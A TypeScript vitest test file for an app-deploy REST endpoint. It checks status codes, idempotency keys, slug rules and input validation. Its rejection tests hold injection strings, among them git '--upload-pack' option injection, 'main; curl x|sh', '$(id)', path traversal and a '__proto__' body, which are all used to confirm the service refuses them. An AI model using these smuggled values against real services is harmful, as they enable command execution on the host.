import { expect } from "vitest";
import { sharedHarness } from "../support/service/shared-harness.ts";
import { hazard, verifies } from "../support/verifies.ts";

const service = sharedHarness();
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

verifies(
  [
    "rest.deploy.201",
    "rest.deploy.response.app_id",
    "rest.deploy.response.slug",
    "rest.deploy.response.app_token",
    "rest.deploy.response.url",
    "rest.deploy.customization.optional",
  ],
  "201 answers with the app's id, slug, token and URL, and nothing else",
  async () => {
    const { rest } = await service().tenant();
    const answer = await rest.deploy({ repo: "acme/site" });
    expect(answer.status).toBe(201);
    expect(answer.body).toEqual({
      app_id: expect.stringMatching(UUID),
      slug: expect.stringMatching(/^site-[a-z0-9]{6}$/),
      app_token: expect.stringMatching(/^sva_[0-9A-Za-z]{49}$/),
      url: expect.stringMatching(/^http:\/\/site-[a-z0-9]{6}\.localhost:\d+$/),
    });
    expect(String(answer.body["url"])).toContain(String(answer.body["slug"]));
  },
);

verifies(
  ["apps.state.created", "rest.deploy.branch.default"],
  "201 records the app as queued, from the branch main",
  async () => {
    const tenant = await service().tenant();
    const { body } = await tenant.rest.deploy({ repo: "acme/site" });
    const app = await tenant.rest.get(`/v1/apps/${String(body["app_id"])}`);
    expect(app.body).toMatchObject({ name: "site", status: "queued", manifest: null, error: null });
    const [deployment] = await service()
      .service.parts.orm.em.fork()
      .execute('select branch, number, "trigger" from deployments where app_id = ?', [body["app_id"]]);
    expect(deployment).toEqual({ branch: "main", number: 1, trigger: "deploy" });
  },
);

verifies(
  ["rest.json", "rest.deploy.branch.given"],
  "201 takes the branch that is named, and answers in JSON",
  async () => {
    const { rest } = await service().tenant();
    const answer = await rest.deploy({ repo: "acme/site", branch: "feature/größe" });
    expect(answer.status).toBe(201);
    expect(answer.headers.get("content-type")).toMatch(/^application\/json/);
  },
);

const BAD_REPOS: [string, unknown][] = [
  ["missing", undefined],
  ["null", null],
  ["a number", 7],
  ["a list", ["acme/site"]],
  ["without a slash", "acme"],
  ["with two slashes", "acme/site/src"],
  ["with a line break", "acme/site\n"],
  ["a parent folder", "../.."],
  ["this folder", "./."],
  ["an owner and a parent folder", "acme/.."],
  ["an owner and .git", "acme/.git"],
  ["an option as owner", "-o/site"],
  ["a long option as owner", "--upload-pack/site"],
  ["5,000 characters", `acme/${"a".repeat(5000)}`],
  ["an owner of 40 characters", `${"a".repeat(40)}/site`],
];

for (const [what, repo] of BAD_REPOS) {
  verifies(
    [
      "rest.deploy.400",
      "rest.error.400",
      "rest.deploy.repo.required",
      "rest.deploy.repo.string",
      "rest.deploy.repo.pattern",
      hazard(1),
      hazard(2),
      hazard(3),
      hazard(4),
    ],
    `400 refuses a repo that is ${what}, says what is valid, and stores nothing`,
    async () => {
      const { rest } = await service().tenant();
      const answer = await rest.deploy({ repo });
      expect(answer.status).toBe(400);
      expect(answer.body).toEqual({ error: expect.stringContaining("repo") });
      expect(answer.text.length).toBeLessThan(600);
      expect((await rest.get("/v1/apps")).body).toEqual({ apps: [] });
    },
  );
}

const BAD_BRANCHES: [string, unknown][] = [
  ["a number", 7],
  ["null", null],
  ["empty", ""],
  ["blank", "   "],
  ["an option of git", "--upload-pack=touch /tmp/p;git-upload-pack"],
  ["a shell command", "main; curl x|sh"],
  ["a substitution", "$(id)"],
  ["backticks", "`id`"],
  ["two lines", "main\nnext"],
  ["a NUL", "main\u0000"],
  ["a reflog entry", "@{-1}"],
  ["an ancestor", "HEAD~1"],
  ["a range", "a..b"],
  ["a lock file", "x.lock"],
  ["a full ref", "refs/heads/main"],
  ["right-to-left text", "ma\u202ein"],
  ["256 bytes", "a".repeat(256)],
];

for (const [what, branch] of BAD_BRANCHES) {
  verifies(
    ["rest.deploy.branch.string", hazard(5), hazard(6), hazard(7), hazard(8), hazard(9)],
    `400 refuses a branch that is ${what}`,
    async () => {
      const { rest } = await service().tenant();
      const answer = await rest.deploy({ repo: "acme/site", branch });
      expect(answer.status).toBe(400);
      expect(answer.body).toEqual({ error: expect.stringContaining("branch") });
      expect((await rest.get("/v1/apps")).body).toEqual({ apps: [] });
    },
  );
}

verifies("rest.deploy.customization.string", "400 refuses a customization that is not a string", async () => {
  const { rest } = await service().tenant();
  const answer = await rest.deploy({ repo: "acme/site", customization: 7 });
  expect([answer.status, answer.body]).toEqual([400, { error: expect.stringContaining("customization") }]);
});

verifies(
  "rest.deploy.400",
  "400 refuses a customization when no app builder is configured, and says what to configure",
  async () => {
    const { rest } = await service().tenant();
    const answer = await rest.deploy({ repo: "acme/site", customization: "make it blue" });
    expect([answer.status, answer.body]).toEqual([400, { error: expect.stringContaining("BUILDER_COMMAND") }]);
  },
);

verifies(hazard(20), "400 refuses a customization that is too long or holds control characters", async () => {
  const { rest } = await service().tenant();
  const bodies = ["x".repeat(20_001), "a\u0000b", "\u001b[31mred", "\ud800", "  "];
  const statuses = await Promise.all(
    bodies.slice(0, 4).map((customization) => rest.deploy({ repo: "acme/site", customization })),
  );
  expect(statuses.map((answer) => answer.status)).toEqual([400, 400, 400, 400]);
});

const BAD_BODIES: [string, string, number][] = [
  ["not JSON", "{repo:", 400],
  ["empty", "", 400],
  ["an array", `[{"repo": "acme/site"}]`, 400],
  ["a string", `"acme/site"`, 400],
  ["null", "null", 400],
  ["a prototype", `{"__proto__": {"repo": "acme/site"}}`, 400],
  ["10 MiB", JSON.stringify({ repo: "acme/site", branch: "x".repeat(10 * 1024 * 1024) }), 413],
];

for (const [what, body, status] of BAD_BODIES) {
  verifies(hazard(21), `${status} refuses a body that is ${what}`, async () => {
    const { rest } = await service().tenant();
    const answer = await rest.send("POST", "/v1/apps/deploy", {
      body,
      headers: { "content-type": "application/json" },
    });
    expect([answer.status, answer.body]).toEqual([status, { error: expect.any(String) }]);
  });
}

verifies(hazard(21), "415 refuses a body of another content type", async () => {
  const { rest } = await service().tenant();
  const answer = await rest.send("POST", "/v1/apps/deploy", {
    body: "repo=acme/site",
    headers: { "content-type": "text/plain" },
  });
  expect([answer.status, answer.body]).toEqual([415, { error: expect.stringContaining("application/json") }]);
});

verifies(hazard(21), "201 takes the last of two equal keys, as JSON does", async () => {
  const { rest } = await service().tenant();
  const body = `{"repo": "acme/first", "repo": "acme/second"}`;
  const answer = await rest.send("POST", "/v1/apps/deploy", { body, headers: { "content-type": "application/json" } });
  expect([answer.status, answer.body["slug"]]).toEqual([201, expect.stringMatching(/^second-/)]);
});

verifies(
  hazard(21),
  "400 looks at a body whatever the case of its media type, and at nothing in the query string",
  async () => {
    const { rest } = await service().tenant();
    for (const type of ["Application/JSON", "application/json; charset=UTF-8"]) {
      const init = { body: `{"branch": "main"}`, headers: { "content-type": type } };
      const answer = await rest.send("POST", "/v1/apps/deploy?repo=acme/site", init);
      expect([type, answer.status, answer.body]).toEqual([type, 400, { error: expect.stringContaining("repo") }]);
    }
  },
);

verifies(hazard(22), "400 names the first unknown fields only, however many there are", async () => {
  const { rest } = await service().tenant();
  const many = Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`field${n}`, n]));
  const answer = await rest.deploy({ repo: "acme/site", ...many });
  expect(answer.status).toBe(400);
  expect(answer.text.length).toBeLessThan(600);
});

verifies(hazard(22), "400 refuses a field that nobody asked for, so none is ever assigned", async () => {
  const { rest, org_id } = await service().tenant();
  const answer = await rest.deploy({ repo: "acme/site", org_id, status: "ready" });
  expect([answer.status, answer.body]).toEqual([400, { error: `unknown field "org_id", "status"` }]);
});

verifies(hazard(54), "201 gives 60 apps of one name a slug each, all of them DNS labels", async () => {
  const tenants = await Promise.all(Array.from({ length: 12 }, () => service().tenant()));
  const name = `XN--${"Long.Name_".repeat(9)}`;
  const answers = await Promise.all(
    tenants.flatMap(({ rest }) => Array.from({ length: 5 }, () => rest.deploy({ repo: `acme/${name}` }))),
  );
  const slugs = answers.map((answer) => String(answer.body["slug"]));
  expect(answers.every((answer) => answer.status === 201)).toBe(true);
  expect(new Set(slugs).size).toBe(60);
  expect(slugs.every((slug) => /^(?!xn--)[a-z0-9]([a-z0-9-]{0,61}[a-z0-9])$/.test(slug))).toBe(true);
});

verifies(
  ["rest.deploy.201", hazard(39), hazard(40)],
  "201 repeats itself for the same Idempotency-Key, and spends nothing",
  async () => {
    const { rest } = await service().tenant();
    const headers = { "idempotency-key": "2f6a9c" };
    const first = await rest.deploy({ repo: "acme/site" }, headers);
    const again = await Promise.all(Array.from({ length: 8 }, () => rest.deploy({ repo: "acme/site" }, headers)));
    expect(again.map((answer) => [answer.status, answer.body])).toEqual(
      Array.from({ length: 8 }, () => [201, first.body]),
    );
    expect(((await rest.get("/v1/apps")).body["apps"] as unknown[]).length).toBe(1);
  },
);

verifies(
  [hazard(37), hazard(39)],
  "201 answers parallel calls with one Idempotency-Key with one app, also at the plan's last slot",
  async () => {
    for (let round = 0; round < 5; round++) {
      const tenant = await service().tenant({ plan: "free" });
      for (let n = 0; n < 9; n++) await service().givenApp(tenant);
      const headers = { "idempotency-key": "2f6a9c" };
      const answers = await Promise.all(
        Array.from({ length: 4 }, () => tenant.rest.deploy({ repo: "acme/site" }, headers)),
      );
      expect(answers.map(({ status, body }) => [status, body["app_id"]])).toEqual(
        answers.map(() => [201, answers[0]?.body["app_id"]]),
      );
    }
  },
);

verifies(hazard(39), "409 refuses the Idempotency-Key of an app that was deleted", async () => {
  const { rest } = await service().tenant();
  const headers = { "idempotency-key": "2f6a9c" };
  const { body } = await rest.deploy({ repo: "acme/site" }, headers);
  await service().service.parts.orm.em.fork().execute("delete from apps where id = ?", [body["app_id"]]);
  const answer = await rest.deploy({ repo: "acme/site" }, headers);
  expect([answer.status, answer.body]).toEqual([409, { error: expect.stringContaining("deleted") }]);
});

verifies(
  ["rest.deploy.400", hazard(39)],
  "422 refuses an Idempotency-Key that was used for another request",
  async () => {
    const { rest } = await service().tenant();
    const headers = { "idempotency-key": "2f6a9c" };
    await rest.deploy({ repo: "acme/site" }, headers);
    const answer = await rest.deploy({ repo: "acme/other" }, headers);
    expect([answer.status, answer.body]).toEqual([422, { error: expect.stringContaining("Idempotency-Key") }]);
  },
);
